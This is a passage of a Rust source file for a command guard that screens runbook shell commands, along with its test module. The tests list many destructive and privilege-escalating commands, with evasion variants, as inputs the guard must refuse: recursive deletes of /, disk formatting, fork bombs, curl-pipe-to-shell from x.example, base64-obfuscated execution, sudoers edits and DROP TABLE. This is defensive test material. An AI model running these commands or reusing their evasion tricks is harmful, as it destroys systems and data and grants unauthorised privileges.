    SYSTEM_DIRS.contains(&name) || name.starts_with("lib")
}

/// Whether deleting (or recursively re-owning) this path destroys the system or a home:
/// `/`, top-level system directories, everything in them, `/usr/*`, `/var/lib`, homes.
fn is_protected(path: &str) -> bool {
    if path.starts_with('~') {
        let rest = path.split_once('/').map_or("", |(_, rest)| rest);
        return rest.is_empty() || is_wide_glob(rest);
    }
    let Some(body) = path.strip_prefix('/') else {
        return climbs_out(path);
    };
    let components: Vec<&str> = body.split('/').filter(|c| !c.is_empty()).collect();
    match components.as_slice() {
        [] => true,
        [top] => is_system_dir(top) || has_glob(top),
        [top, second] => {
            has_glob(top)
                || (is_system_dir(top) && is_wide_glob(second))
                || *top == "usr"
                || (*top == "var" && *second == "lib")
        }
        [top, ..] => has_glob(top),
    }
}

/// `../..` or `../*` from an unknown directory may well be `/` or a system directory.
fn climbs_out(path: &str) -> bool {
    let mut components: Vec<&str> = path.split('/').filter(|c| !c.is_empty()).collect();
    let glob = components.last().is_some_and(|last| is_wide_glob(last));
    if glob {
        components.pop();
    }
    let ups = components.len();
    components.iter().all(|c| *c == "..") && (ups >= 2 || (glob && ups >= 1))
}

/// Paths whose permissions or owner a runbook must not change: `/`, top-level system
/// directories, and files in system trees (`/etc/…`, `/usr/bin/…`, `/boot/…`).
fn is_system_path(path: &str) -> bool {
    let Some(body) = path.strip_prefix('/') else {
        return false;
    };
    let components: Vec<&str> = body.split('/').filter(|c| !c.is_empty()).collect();
    match components.as_slice() {
        [] => true,
        [top] => is_system_dir(top) || has_glob(top),
        _ => SYSTEM_TREES.iter().any(|tree| path.starts_with(tree)),
    }
}

/// Disks, partitions, volumes and raw memory under `/dev` (not `/dev/null`, ttys, …).
fn is_block_device(path: &str) -> bool {
    let Some(name) = path.strip_prefix("/dev/") else {
        return false;
    };
    if RAW_MEMORY_DEVICES.contains(&name)
        || BLOCK_DEVICE_PREFIXES.iter().any(|p| name.starts_with(p))
    {
        return true;
    }
    // Logical volumes live at /dev/<volume group>/<volume>.
    name.split_once('/').is_some_and(|(dir, _)| !SAFE_DEV_DIRS.contains(&dir))
}

/// Account, sudo and PAM files.
fn is_user_db(path: &str) -> bool {
    USER_DB_FILES.contains(&path) || USER_DB_DIRS.iter().any(|dir| path.starts_with(dir))
}

/// Expands `{a,b}` groups as bash does, so `/{etc,usr}` is seen as `/etc` and `/usr`.
fn expand_braces(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    expand_braces_into(text, &mut out, 0);
    out
}

/// Expands one group and recurses, bounded in depth and in results.
fn expand_braces_into(text: &str, out: &mut Vec<String>, depth: usize) {
    if out.len() >= MAX_BRACE_ALTERNATIVES {
        return;
    }
    let group = if depth < MAX_DEPTH { find_brace_group(text) } else { None };
    let Some((open, close)) = group else {
        out.push(text.to_string());
        return;
    };
    let prefix = text.get(..open).unwrap_or_default();
    let inner = text.get(open + 1..close).unwrap_or_default();
    let suffix = text.get(close + 1..).unwrap_or_default();
    for alternative in split_top_level_commas(inner) {
        expand_braces_into(&format!("{prefix}{alternative}{suffix}"), out, depth + 1);
    }
}

/// Byte offsets of a `{…}` group holding a top-level comma (the first one to close),
/// found in one pass so that hostile brace soup stays linear.
fn find_brace_group(text: &str) -> Option<(usize, usize)> {
    let mut open: Vec<(usize, bool)> = Vec::new();
    for (i, c) in text.char_indices() {
        match c {
            '{' => open.push((i, false)),
            ',' => {
                if let Some(group) = open.last_mut() {
                    group.1 = true;
                }
            }
            '}' => {
                if let Some((start, true)) = open.pop() {
                    return Some((start, i));
                }
            }
            _ => {}
        }
    }
    None
}

/// The alternatives of a brace group's inside.
fn split_top_level_commas(text: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut depth = 0usize;
    let mut start = 0;
    for (i, c) in text.char_indices() {
        match c {
            '{' => depth += 1,
            '}' => depth = depth.saturating_sub(1),
            ',' if depth == 0 => {
                parts.push(text.get(start..i).unwrap_or_default());
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(text.get(start..).unwrap_or_default());
    parts
}

// ---------------------------------------------------------------------------------------
// Text-level checks: fork bombs and SQL
// ---------------------------------------------------------------------------------------

/// Fork bombs: a function that calls itself in a pipe or in the background
/// (`:(){ :|:& };:`, `bomb(){ bomb|bomb& };bomb`), or a fork loop in Perl/Python.
/// Checked on the text with all whitespace removed, so spacing cannot hide it.
fn fork_bomb(text: &str) -> bool {
    let compact: Vec<char> = text.chars().filter(|c| !c.is_whitespace()).collect();
    let lowered = compact.iter().collect::<String>().to_lowercase();
    if FORK_LOOPS.iter().any(|pattern| lowered.contains(pattern)) {
        return true;
    }
    function_definitions(&compact).iter().any(|(name, body)| spawns_itself(name, body))
}

/// Names and bodies of `name(){ … }` and `function name { … }` definitions.
fn function_definitions(compact: &[char]) -> Vec<(String, String)> {
    let mut found = Vec::new();
    for (i, window) in compact.windows(3).enumerate() {
        if found.len() >= MAX_FUNCTIONS {
            break;
        }
        if window == ['(', ')', '{'] {
            let name = name_before(compact, i);
            let name = name.strip_prefix("function").filter(|n| !n.is_empty()).unwrap_or(&name);
            if !name.is_empty() {
                found.push((name.to_string(), body_after(compact, i + 3)));
            }
        }
    }
    let text: String = compact.iter().collect();
    for (offset, _) in text.match_indices("function").take(MAX_FUNCTIONS) {
        let after = text.get(offset + "function".len()..).unwrap_or_default();
        let name: String = after.chars().take_while(|c| is_name_char(*c)).collect();
        let rest = after.get(name.len()..).unwrap_or_default();
        if let Some(body) = rest.strip_prefix('{') {
            let body: Vec<char> = body.chars().take(MAX_FUNCTION_BODY).collect();
            found.push((name, body_after(&body, 0)));
        }
    }
    found
}

/// Characters a shell function name can hold.
fn is_name_char(c: char) -> bool {
    !c.is_whitespace() && !";|&(){}<>'\"`$".contains(c)
}

/// The function name that ends at `end` in the compacted text.
fn name_before(compact: &[char], end: usize) -> String {
    let head = compact.get(..end).unwrap_or_default();
    let start = head.iter().rposition(|c| !is_name_char(*c)).map_or(0, |i| i + 1);
    head.get(start..).unwrap_or_default().iter().collect()
}

/// A function body from `start` to its closing brace, bounded in length.
fn body_after(compact: &[char], start: usize) -> String {
    let mut depth = 1usize;
    let mut body = String::new();
    for &c in compact.get(start..).unwrap_or_default().iter().take(MAX_FUNCTION_BODY) {
        match c {
            '{' => depth += 1,
            '}' => {
                depth -= 1;
                if depth == 0 {
                    break;
                }
            }
            _ => {}
        }
        body.push(c);
    }
    body
}

/// A body that calls its own function through a pipe or in the background.
fn spawns_itself(name: &str, body: &str) -> bool {
    let calls = body.split(|c: char| !is_name_char(c)).filter(|word| *word == name).count();
    calls >= 1 && body.contains(['&', '|'])
}

/// Destructive SQL anywhere in the text: `DROP TABLE|DATABASE|SCHEMA|INDEX|USER|…`,
/// `TRUNCATE`, `DELETE FROM` without a `WHERE` (or with an always-true one), and
/// `FLUSHALL`/`FLUSHDB`/`dropDatabase`. Case-insensitive; checked with and without
/// `/* … */` comments, because SQL reaches databases through `-e`, heredocs and pipes.
fn sql_destructive(text: &str) -> Option<String> {
    let lowered = text.to_lowercase();
    if !["drop", "truncate", "delete", "flush"].iter().any(|word| lowered.contains(word)) {
        return None;
    }
    sql_statement(&sql_tokens(&lowered))
        .or_else(|| sql_statement(&sql_tokens(&strip_block_comments(&lowered))))
}

/// The first destructive statement among the tokens.
fn sql_statement(tokens: &[String]) -> Option<String> {
    (0..tokens.len()).find_map(|i| sql_statement_at(tokens, i))
}

/// The destructive statement starting at token `i`, if any.
fn sql_statement_at(tokens: &[String], i: usize) -> Option<String> {
    let token = tokens.get(i)?.as_str();
    let statement = statement_tokens(tokens, i + 1);
    match token {
        "drop" => {
            let mut next = statement.iter().map(String::as_str);
            let target = match next.next()? {
                "temporary" => next.next()?,
                other => other,
            };
            SQL_DROP_TARGETS.contains(&target).then(|| format!("DROP {}", target.to_uppercase()))
        }
        "truncate" => truncate_statement(statement),
        "delete" => delete_statement(statement),
        "flushall" | "flushdb" | "dropdatabase" => Some(token.to_uppercase()),
        _ => None,
    }
}

/// Tokens from `start` to the end of the statement (`;`, a quote or a shell operator).
fn statement_tokens(tokens: &[String], start: usize) -> &[String] {
    let rest = tokens.get(start..).unwrap_or_default();
    let end = rest.iter().position(|t| matches!(t.as_str(), ";" | "'" | "\"" | "`" | "|" | "&"));
    rest.get(..end.unwrap_or(rest.len())).unwrap_or_default()
}

/// `TRUNCATE [TABLE] name`, told apart from coreutils `truncate -s 0 file` by its options.
fn truncate_statement(statement: &[String]) -> Option<String> {
    let first = statement.first()?;
    if first == "table" {
        return Some("TRUNCATE TABLE".to_string());
    }
    let is_name = first.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '$');
    let has_option = statement.iter().any(|t| t.starts_with('-'));
    (is_name && !has_option).then(|| "TRUNCATE".to_string())
}

/// `DELETE FROM t` with no `WHERE`, or with an always-true one.
fn delete_statement(statement: &[String]) -> Option<String> {
    let modifiers = statement
        .iter()
        .take_while(|t| matches!(t.as_str(), "low_priority" | "quick" | "ignore"))
        .count();
    let rest = statement.get(modifiers..).unwrap_or_default();
    let (Some(from), Some(table)) = (rest.first(), rest.get(1)) else {
        return None;
    };
    if from != "from" || table.starts_with('-') {
        return None;
    }
    let Some(where_at) = rest.iter().position(|t| t == "where") else {
        return Some("DELETE FROM without WHERE".to_string());
    };
    let condition: String = rest.get(where_at + 1..).unwrap_or_default().concat();
    matches!(condition.as_str(), "1=1" | "true" | "1" | "'1'='1'")
        .then(|| "DELETE FROM with an always-true WHERE".to_string())
}

/// Words, `=`, and statement terminators; other punctuation separates.
fn sql_tokens(text: &str) -> Vec<String> {
    let mut tokens = Vec::new();
    let mut current = String::new();
    for c in text.chars() {
        if c.is_whitespace() || "(),<>*.".contains(c) {
            flush_token(&mut tokens, &mut current);
        } else if ";'\"`|&=".contains(c) {
            flush_token(&mut tokens, &mut current);
            tokens.push(c.to_string());
        } else {
            current.push(c);
        }
    }
    flush_token(&mut tokens, &mut current);
    tokens
}

/// Ends the current SQL token.
fn flush_token(tokens: &mut Vec<String>, current: &mut String) {
    if !current.is_empty() {
        tokens.push(std::mem::take(current));
    }
}

/// Removes closed `/* … */` comments, which could otherwise split keywords.
fn strip_block_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("/*") {
        let Some(length) = rest.get(start + 2..).and_then(|after| after.find("*/")) else {
            break;
        };
        out.push_str(rest.get(..start).unwrap_or_default());
        out.push(' ');
        rest = rest.get(start + 2 + length + 2..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Commands of the built-in runbooks: all must be allowed.
    const BUILTIN_RUNBOOK_COMMANDS: &[&str] = &[
        "df -h",
        "df -h /",
        "journalctl --vacuum-size=500M",
        "find /tmp -xdev -type f -atime +7 -delete",
        "find /var/log -xdev -type f -name '*.gz' -mtime +14 -delete",
        "test $(df --output=pcent / | tail -n 1 | tr -dc 0-9) -lt 90",
        "free -m",
        "ps -eo pid,comm,rss --sort=-rss | head -n 15",
        "sync",
        "sysctl -w vm.drop_caches=1",
        "test $(free | awk '/^Mem:/ {printf \"%d\", $3*100/$2}') -lt 90",
        "systemctl show -p ActiveState 'nginx'",
        "systemctl restart 'nginx'",
        "systemctl start 'nginx'",
        "systemctl is-active 'nginx'",
        "logrotate -f /etc/logrotate.conf",
        "du -sh /var/log",
        "ps -eo pid,ppid,stat,comm | awk '$3 ~ /^Z/'",
        "ps -eo ppid=,stat= | awk '$2 ~ /^Z/ {print $1}' | sort -u | xargs -r kill -s SIGCHLD",
        "test $(ps -eo stat= | grep -c '^Z') -eq 0",
        "ss -s",
        "ss -tan state close-wait | wc -l",
        "ss -K state close-wait",
        "test $(ss -tan state close-wait | tail -n +2 | wc -l) -lt 100",
        "echo 1 > /proc/sys/vm/drop_caches",
    ];

    /// Everyday commands, including look-alikes of dangerous ones: all must be allowed.
    const HARMLESS: &[&str] = &[
        "rm -rf /tmp/build-cache",
        "rm -f /var/tmp/app.pid",
        "rm -rf /var/log/app/old",
        "rm -rf /srv/app/releases/2023-01-01",
        "sudo rm -rf /tmp/build-cache",
        "grep -r shutdown /var/log/syslog",
        "cat /etc/passwd | wc -l",
        "ls -la /etc",
        "ls -l /dev/sda",
        "chmod 644 /srv/app/config.yml",
        "chmod 755 /srv/app/bin/run.sh",
        "chmod -R g+w /srv/app/uploads",
        "chown app:app /srv/app/data/file",
        "chown -R app:app /srv/app",
        "psql -c 'SELECT count(*) FROM users'",
        "mysql -e \"DELETE FROM sessions WHERE expires < NOW()\"",
        "mysql -e \"SHOW PROCESSLIST\"",
        "psql -c \"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle'\"",
        "sudo -u postgres psql -c 'VACUUM ANALYZE'",
        "kill -HUP 1234",
        "kill -TERM 4242",
        "kill -0 1234",
        "pkill -HUP nginx",
        "dd if=/dev/zero of=/tmp/testfile bs=1M count=10",
        "dd if=/dev/sda of=/tmp/mbr.bin bs=512 count=1",
        "curl -fsS http://localhost/health",
        "wget -qO- http://localhost/metrics | grep up",
        "timeout 30 curl -fsS http://localhost:8080/ready",
        "docker system prune -f",
        "docker ps --format '{{.Names}}'",
        "nginx -t",
        "tail -n 100 /var/log/syslog",
        "uptime",
        "systemctl status nginx",
        "systemctl reload nginx",
        "sudo systemctl restart nginx",
        "systemctl daemon-reload",
        "journalctl -u nginx --since '1 hour ago' --no-pager",
        "echo hello > /dev/null",
        "cat /dev/null > /var/log/app/app.log",
        "truncate -s 0 /var/log/app/app.log",
        "echo 3 | tee /proc/sys/vm/drop_caches",
        "cat /proc/meminfo",
        "find /var/log/app -name '*.log' -mtime +30 -exec gzip {} \\;",
        "find /tmp -name '*.tmp' -exec rm -f {} +",
        "find /srv/app/cache -mindepth 1 -delete",
        "tar czf /tmp/backup.tgz /etc/nginx",
        "rsync -a /srv/app/ /backup/app/",
        "cp /etc/nginx/nginx.conf /tmp/nginx.conf.bak",
        "mv /tmp/a.log /tmp/b.log",
        "nohup /srv/app/bin/worker > /dev/null 2>&1 &",
        "env LANG=C df -h",
        "nice -n 10 du -sh /srv",
        "sh -c 'df -h / && free -m'",
        "bash -lc 'systemctl is-active nginx'",
        "echo $(hostname)",
        "date +%s",
        "hostname -f",
        "ip addr show",
        "ss -tlnp",
        "docker restart app",
        "redis-cli ping",
        "sysctl vm.swappiness=10",
        "swapoff -a && swapon -a",
        "apt-get clean",
        "logger \"runbook done\"",
        "test -f /var/run/nginx.pid && kill -HUP $(cat /var/run/nginx.pid)",
        "[ -d /srv/app ] && echo ok",
        "du -sh /var/lib/docker",
        "ps aux | grep '[n]ginx'",
        "ps aux --sort=-%mem | head -n 5",
        "crontab -l",
        "id -u",
        "git -C /srv/app pull --ff-only",
        "cat /var/log/syslog | grep -i error | tail -n 20",
        "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
        "xargs -r -n 1 echo < /tmp/list",
        "printf '%s\\n' ok",
        "echo 'done' | logger",
        "for f in /var/log/app/*.log; do gzip \"$f\"; done",
        "WORK=$(mktemp -d) && rm -rf \"$WORK\"",
        "cd /srv/app && rm -rf ./tmp",
        "python3 -c 'import json,sys; print(json.load(sys.stdin))' < /tmp/status.json",
        "curl -s http://localhost/status | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s http://localhost/metrics | awk '{print $1}'",
        "rm -rf /var/cache/apt/archives/*",
        "rm -rf /var/tmp/*",
        "rm -rf /tmp/*",
        "cd /srv/app/releases && rm -rf ../old",
        "WORK=$(mktemp -d); cd \"$WORK\" && rm -rf ./*",
        "find /var/log -name '*.log' -exec truncate -s 0 {} \\;",
        "docker exec db psql -c 'DELETE FROM jobs WHERE done'",
        "mysql -e \"DELETE FROM logs WHERE created < NOW() - INTERVAL 30 DAY\"",
        "kill -9 $(pgrep -f stuck-worker)",
        "pkill -9 -f stuck-worker",
        "sudo -u app /srv/app/bin/migrate",
        "export PATH=$PATH:/usr/local/bin",
        "echo never > /sys/kernel/mm/transparent_hugepage/enabled",
        "sed -i 's/x/y/' /etc/nginx/nginx.conf",
        "perl -ne 'print \"$1\\n\" if /x(\\d+)/' /var/log/x",
        "python3 -c 'print(\"hello\")'",
        "awk -F: '{print $1}' /etc/passwd",
        "find . -name '*.sh' | xargs bash -n",
        "echo $((3 * 100 / 2))",
        "echo 'uptime' | at now + 1 minute",
        "sudo sh < /srv/app/fix.sh",
    ];

    /// Destructive or privilege-escalating commands, with evasions: all must be refused.
    const DANGEROUS: &[&str] = &[
        // Recursive deletes, flags and paths.
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm --recursive --force /",
        "rm --rec /etc",
        "rm -rf --no-preserve-root /",
        "rm --no-preserve-root -rf /",
        "rm -Rf /*",
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf $HOME",
        "rm -rf \"$HOME\"/",
        "rm -rf ${HOME}/*",
        "rm -rf /etc",
        "rm -rf /usr/",
        "rm -rf /var",
        "rm -rf /home",
        "rm -rf /boot",
        "rm -rf /lib64",
        "rm -rf /root",
        "rm -rf /opt /srv",
        "rm -r /dev",
        "rm -rf /lib/*",
        "rm -rf //",
        "rm -rf /tmp/../",
        "rm -rf /./etc/.",
        "rm / -rf",
        "rm -rf -- /",
        "rm -rf /{etc,usr}",
        "rm -rf \"$DIR/\"",
        "rm -rf / 2>/dev/null",
        // Spacing, quoting and escaping.
        "rm\t-rf\t/",
        "rm    -rf     /etc",
        "r''m -rf /",
        "\"rm\" -rf \"/\"",
        "rm -r\\f /",
        "\\rm -rf /",
        "$'\\x72\\x6d' -rf /",
        // Verbs by path and wrappers.
        "/bin/rm -rf /",
        "/usr/bin/sudo /bin/rm -rf /",
        "sudo rm -rf /",
        "sudo -u root -E rm -rf /etc",
        "sudo -n -- rm -rf /usr",
        "sudo -i rm -rf /",
        "doas rm -rf /",
        "env -i PATH=/bin rm -rf /",
        "env -S 'rm -rf /'",
        "FOO=bar rm -rf /",
        "nohup rm -rf / &",
        "nice -n 19 ionice -c3 rm -rf /",
        "timeout -s KILL 60 rm -rf /",
        "time rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "busybox rm -rf /",
        "stdbuf -oL rm -rf /",
        "setsid rm -rf /",
        "flock /tmp/lock -c 'rm -rf /'",
        "echo / | xargs rm -rf",
        "echo /etc | xargs -I{} rm -rf {}",
        "watch -n 60 rm -rf /",
        "sh -c 'rm -rf /'",
        "bash -c \"rm -rf /\"",
        "bash -lc 'rm -rf /'",
        "zsh -c 'rm -rf ~'",
        "dash -c 'rm -rf /etc'",
        "su -c 'rm -rf /'",
        "sudo su -c 'rm -rf /'",
        "sudo sh -c 'sudo bash -c \"rm -rf /\"'",
        "ssh web1 'rm -rf /'",
        "eval 'rm -rf /'",
        "alias cleanup='rm -rf /'",
        "trap 'rm -rf /' EXIT",
        // find.
        "find / -delete",
        "find /etc -delete",
        "find / -name '*' -exec rm -rf {} \\;",
        "find / -type f -exec rm {} +",
        "find / -exec /bin/rm -f {} \\;",
        "find / -exec sh -c 'rm -rf {}' \\;",
        "sudo find / -xdev -delete",
        // Chaining, substitution and grouping.
        "echo hi; rm -rf /",
        "true && rm -rf /",
        "false || rm -rf /",
        "ls | rm -rf /",
        "echo ok\nrm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "cat <(rm -rf /)",
        "x=$(sudo rm -rf /)",
        "echo ${X:-$(rm -rf /)}",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "if true; then rm -rf /; fi",
        "for d in /tmp /; do rm -rf $d; done",
        "$(which rm) -rf /",
        "`which rm` -rf /",
        "target=/; rm -rf $target",
        "x=$(echo /); rm -rf $x",
        "cd / && rm -rf *",
        "cd ~ && rm -rf .",
        "cd /etc; rm -rf ./*",
        "rm -rf ../../*",
        "rm -rf /home/*",
        "rm -rf /e??",
        "rm -rf $(printf /)",
        "find / -print0 | xargs -0 rm -rf",
        "ls / | xargs rm -rf",
        "nsenter -t 1 -m -u -i -n -p -- rm -rf /",
        "python3 -c \"import os; os.system('rm -rf /')\"",
        "node -e \"require('child_process').execSync('rm -rf /')\"",
        "awk 'BEGIN{system(\"rm -rf /\")}'",
        "printf '\\x72\\x6d -rf /' | sh",
        "echo 'rm -rf /' | sh",
        "printf 'rm -rf /\\n' | bash",
        "bash <<EOF\nrm -rf /\nEOF",
        "bash <<< 'rm -rf /'",
        "mv /etc /tmp/etc.old",
        "rsync -a --delete /tmp/empty/ /",
        // Filesystem formatting.
        "mkfs.ext4 /dev/sdb1",
        "mkfs -t xfs /dev/nvme1n1",
        "mke2fs -t ext4 /dev/sdc",
        "mkswap /dev/sdb2",
        "wipefs -a /dev/sda",
        "fdisk /dev/sda",
        "sfdisk /dev/vda < table.txt",
        "parted -s /dev/sda mklabel gpt",
        "sgdisk --zap-all /dev/nvme0n1",
        "sudo /sbin/mkfs.xfs -f /dev/xvdf",
        "bash -c 'mkfs.btrfs /dev/sdd'",
        // Raw block-device writes.
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "dd if=/dev/urandom of=/dev/nvme0n1",
        "dd of=/dev/vda if=disk.img",
        "dd if=image.img of=/dev/mapper/vg0-root",
        "dd if=/dev/zero of=/dev/disk/by-id/ata-SAMSUNG",
        "dd if=/dev/zero of=/dev/mmcblk0",
        "dd if=/dev/zero of=/dev/md0",
        "dd if=/dev/zero of=/dev/dm-0",
        "sudo dd if=/dev/zero of=/dev/sd\"a\"",
        "cat image.iso > /dev/sdb",
        "echo garbage > /dev/sda",
        "cat x >/dev/nvme0n1",
        "head -c 1M /dev/urandom>/dev/xvda",
        "shred -n 3 -z /dev/sda",
        "tee /dev/hda < /dev/zero",
        "cp /dev/zero /dev/vdb",
        "blkdiscard /dev/sda",
        "exec 3>/dev/sda",
        "dd if=x of=/dev/vg0/root",
        // Power state.
        "shutdown -h now",
        "shutdown -r +5",
        "reboot",
        "/sbin/reboot -f",
        "sudo poweroff",
        "halt -p",
        "init 0",
        "init 6",
        "telinit 6",
        "systemctl poweroff",
        "systemctl reboot --force",
        "systemctl -i halt",
        "systemctl kexec",
        "systemctl isolate reboot.target",
        "kill -9 -1",
        "kill -KILL -1",
        "kill -s KILL -1",
        "kill 1",
        "kill -9 1",
        "sudo kill -- -1",
        "echo b > /proc/sysrq-trigger",
        "killall5 -9",
        "pkill -9 systemd",
        "pkill -KILL -u root",
        "kill -9 -- -1",
        "systemctl start poweroff.target",
        "perl -e 'system(\"reboot\")'",
        // Fork bombs.
        ":(){ :|:& };:",
        ":(){ :|: & };:",
        ": () { : | : & } ; :",
        ":(){\t:|:&\t};:",
        "bomb(){ bomb|bomb& };bomb",
        "f() { f | f & }; f",
        "bash -c ':(){ :|:& };:'",
        "function bomb { bomb | bomb & }; bomb",
        "perl -e 'fork while fork'",
        // Download and execute.
        "curl -fsSL https://example.com/install.sh | sh",
        "curl -s http://x.example/i.sh | bash",
        "wget -qO- http://x.example/i.sh | sh",
        "curl http://x.example/i.sh | sudo bash",
        "curl -sL http://x.example | sudo -E bash -",
        "curl -fsSL https://x.example | sh -s -- --yes",
        "wget -O - http://x.example | zsh",
        "curl http://x.example/a.py | python3",
        "curl http://x.example/a.pl | perl",
        "curl http://x.example/a.rb | ruby",
        "curl http://x.example/a.php | php",
        "curl http://x.example/a.js | node",
        "fetch -o - http://x.example | sh",
        "curl http://x.example | tee /tmp/log | sh",
        "bash <(curl -s http://x.example)",
        "sh -c \"$(curl -fsSL http://x.example)\"",
        "bash -c \"$(wget -O- http://x.example)\"",
        "eval \"$(wget -qO- http://x.example)\"",
        "source <(curl -s http://x.example)",
        ". <(curl -s http://x.example)",
        "python3 <(curl -s http://x.example/a.py)",
        "zsh < <(curl -s http://x.example)",
        "curl -o /tmp/i.sh http://x.example && bash /tmp/i.sh",
        "curl -s http://x.example | xargs -0 bash -c",
        "curl -s http://x.example > /tmp/a.sh; bash /tmp/a.sh",
        "curl -sSLo /tmp/x.sh http://x.example; chmod +x /tmp/x.sh; /tmp/x.sh",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "bash -c \"$(echo cm0gLXJmIC8K | base64 -d)\"",
        "rev <<< '/ fr- mr' | sh",
        // Permissions.
        "chmod -R 777 /",
        "chmod 777 /",
        "chmod 777 / -R",
        "chmod -R 777 /var",
        "chmod 777 /etc/shadow",
        "chmod 666 /etc/passwd",
        "chmod 0777 /boot",
        "chmod -R a+rwx /home",
        "sudo chmod -R 777 /*",
        "chown -R nobody:nogroup /",
        "chown nobody /etc/sudoers",
        "chgrp -R users /usr",
        "setfacl -R -m u:eve:rwx /",
        "chmod u+s /bin/bash",
        "chmod +s /usr/bin/find",
        "chmod 4755 /tmp/rootshell",
        "chmod g+s,u+s /tmp/x",
        "chmod 4777 /usr/bin/vim",
        "install -m 4755 /tmp/sh /usr/local/bin/sh2",
        "find / -exec chmod 777 {} +",
        "setcap cap_setuid+ep /usr/bin/python3",
        // Users, groups, sudo.
        "useradd -m eve",
        "/usr/sbin/useradd eve",
        "userdel -r bob",
        "usermod -aG sudo eve",
        "adduser eve",
        "deluser bob",
        "groupadd admins",
        "groupdel admins",
        "groupmod -n staff admins",
        "passwd root",
        "echo 'root:hunter2' | chpasswd",
        "visudo",
        "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "echo 'eve ALL=(ALL) ALL' | tee -a /etc/sudoers",
        "echo 'eve ALL=(ALL) ALL' | sudo tee /etc/sudoers.d/eve",
        "echo 'eve:x:0:0::/root:/bin/bash' >> /etc/passwd",
        "cd /etc && echo x >> sudoers",
        "cp /tmp/shadow /etc/shadow",
        "sed -i 's/^root:[^:]*:/root::/' /etc/shadow",
        "vi /etc/sudoers",
        "rm -f /etc/shadow",
        "sudo su",
        "sudo su -",
        "su -",
        "su root",
        "sudo -i",
        "sudo -s",
        "sudo bash",
        "sudo -u eve -s",
        "sudo -e /etc/sudoers",
        "ln -sf /tmp/evil /etc/sudoers.d/evil",
        "> /etc/passwd",
        // SQL.
        "mysql -e \"DROP TABLE users\"",
        "psql -c 'drop database prod'",
        "mysql -e \"TRUNCATE sessions\"",
        "psql -c \"TRUNCATE TABLE logs\"",
        "mysql -e \"DELETE FROM users\"",
        "psql -c 'delete from users;'",
        "mysql app <<EOF\nDROP SCHEMA app;\nEOF",
        "psql -c \"DROP INDEX idx_users_email\"",
        "psql -c \"DROP USER bob\"",
        "mysql -e \"DR\"\"OP TABLE x\"",
        "mysql -e 'Drop   Table\tusers'",
        "psql -c 'DROP /* sneaky */ TABLE users'",
        "echo 'DROP TABLE users;' | mysql app",
        "psql -c \"DELETE FROM t WHERE 1=1\"",
        "redis-cli FLUSHALL",
        "dropdb prod",
        // Commands the guard cannot see.
        "$CMD -rf /",
    ];

    fn refusal(command: &str) -> Refusal {
        match CommandGuard::default().check(command) {
            Ok(()) => panic!("expected `{command}` to be refused"),
            Err(refusal) => refusal,
        }
    }

    #[test]
    fn refuses_every_dangerous_command() {
        let guard = CommandGuard::default();
        let allowed: Vec<&str> =
            DANGEROUS.iter().copied().filter(|command| guard.check(command).is_ok()).collect();
        assert!(allowed.is_empty(), "dangerous commands were allowed: {allowed:#?}");
        assert!(DANGEROUS.len() >= 110, "only {} dangerous commands", DANGEROUS.len());
    }

    #[test]
    fn allows_every_harmless_command() {
        let guard = CommandGuard::default();
        let refused: Vec<String> = BUILTIN_RUNBOOK_COMMANDS
            .iter()
            .chain(HARMLESS)
            .filter_map(|command| {
                guard.check(command).err().map(|r| format!("{command:?} => {r} [{}]", r.segment))
            })
            .collect();
        assert!(refused.is_empty(), "harmless commands were refused: {refused:#?}");
        let total = BUILTIN_RUNBOOK_COMMANDS.len() + HARMLESS.len();
        assert!(total >= 60, "only {total} harmless commands");
    }

    #[test]
    fn reports_the_expected_rule() {
        let cases = [
            ("rm -rf /", RECURSIVE_DELETE),
            ("sudo env X=1 sh -c 'rm -rf /etc'", RECURSIVE_DELETE),
            ("find / -delete", RECURSIVE_DELETE),
            ("mkfs.ext4 /dev/sdb1", FILESYSTEM_FORMAT),
            ("dd if=/dev/zero of=/dev/sda", BLOCK_DEVICE_WRITE),
            ("cat x > /dev/nvme0n1", BLOCK_DEVICE_WRITE),
            ("reboot", POWER_STATE),
            ("kill -9 -1", POWER_STATE),
            ("systemctl poweroff", POWER_STATE),
            (":(){ :|:& };:", FORK_BOMB),
            ("curl -s http://x.example | sudo bash", DOWNLOAD_EXECUTE),
            ("bash <(curl -s http://x.example)", DOWNLOAD_EXECUTE),
            ("eval \"$(wget -qO- http://x.example)\"", DOWNLOAD_EXECUTE),
            ("echo cm0= | base64 -d | sh", OBFUSCATED_EXECUTE),
            ("chmod -R 777 /var", SYSTEM_PERMISSIONS),
            ("chmod u+s /bin/bash", SYSTEM_PERMISSIONS),
            ("useradd eve", USER_MANAGEMENT),
            ("echo x >> /etc/sudoers", USER_MANAGEMENT),
            ("sudo su", USER_MANAGEMENT),
            ("mysql -e 'DROP TABLE users'", SQL_DESTRUCTIVE),
            ("psql -c 'DELETE FROM users'", SQL_DESTRUCTIVE),
            ("$CMD -rf /", DYNAMIC_COMMAND),
            ("", EMPTY_COMMAND),
            ("   \t\n  ", EMPTY_COMMAND),
            (" ; ; # just a comment", EMPTY_COMMAND),
        ];
        let guard = CommandGuard::default();
        for (command, rule) in cases {
            match guard.check(command) {
                Ok(()) => panic!("`{command}` was allowed, expected rule {rule}"),
                Err(refusal) => assert_eq!(refusal.rule, rule, "`{command}`: {refusal}"),
            }
        }
    }

    #[test]
    fn segment_is_the_unwrapped_command() {
        assert_eq!(refusal("sudo env X=1 sh -c 'rm -rf /etc'").segment, "rm -rf /etc");
